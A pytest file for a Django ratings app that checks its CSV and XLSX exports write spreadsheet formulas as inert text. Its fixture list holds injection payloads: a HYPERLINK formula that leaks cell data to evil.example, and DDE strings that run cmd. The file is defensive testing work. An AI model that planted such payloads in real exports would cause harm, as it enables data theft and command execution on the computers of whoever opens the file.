"""Security finding 7 of issue 17: the rating exports write what looks like a spreadsheet
formula as text, so opening the file runs nothing."""

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "+7(916)555-12-34",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_deputies(committee):
    from ratings import services as rating_services
    from tests.factories import DeputyFactory

    for name in FORMULAS:
        DeputyFactory(region_code="77", full_name=name)
    rating_services.ratings_recompute()
    return committee


def test_csv_export_writes_formulas_as_text(client, formula_deputies):
    import csv
    import io

    client.force_login(formula_deputies)

    response = client.get(reverse("ratings:region_table"), {"format": "csv"})

    text = io.StringIO(response.content.decode("utf-8-sig"), newline="")
    rows = list(csv.reader(text, delimiter=";"))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name for name in FORMULAS}


def test_xlsx_export_writes_formulas_as_strings(client, formula_deputies):
    import io

    from openpyxl import load_workbook

    client.force_login(formula_deputies)

    response = client.get(reverse("ratings:region_table"), {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # XML keeps no bare CR: it comes back as LF.
    assert {c.value for c in cells} == {name.replace("\r", "\n") for name in FORMULAS}
    assert {c.data_type for c in cells} == {"s"}  # not "f": Excel shows them, runs nothing
